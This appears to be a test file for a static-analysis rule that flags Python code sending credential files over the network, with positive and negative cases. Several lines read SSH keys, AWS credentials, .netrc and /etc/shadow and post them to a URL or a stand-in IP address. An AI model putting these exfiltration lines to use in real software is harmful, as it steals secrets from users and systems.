import os
import socket
from pathlib import Path

import requests


def collect(url):
    with open(os.path.expanduser("~/.ssh/id_rsa")) as f:
        key = f.read()
    # ruleid: python-credential-file-sent
    requests.post(url, data={"k": key}, timeout=5)
    text = Path(os.path.expanduser("~/.aws/credentials")).read_text()
    # ruleid: python-credential-file-sent
    requests.post(url, json={"t": text}, timeout=5)
    # ruleid: python-credential-file-sent
    requests.post(url, files={"f": open("/home/dev/.netrc", "rb")}, timeout=5)
    s = socket.create_connection(("203.0.113.9", 80))
    # ruleid: python-credential-file-sent
    s.sendall(open("/etc/shadow", "rb").read())
    with open("report.txt") as f:
        report = f.read()
    # ok: python-credential-file-sent
    requests.post(url, data={"k": report}, timeout=5)
    with open("/home/dev/.npmrc") as f:
        token = find_token(f.read())
    # ok: python-credential-file-sent
    requests.post(url, json={"token": token}, timeout=5)
    # ok: python-credential-file-sent
    has_key = os.path.exists(os.path.expanduser("~/.ssh/id_rsa"))
    # ok: python-credential-file-sent
    public = Path("~/.ssh/known_hosts").read_text()
    return has_key, public
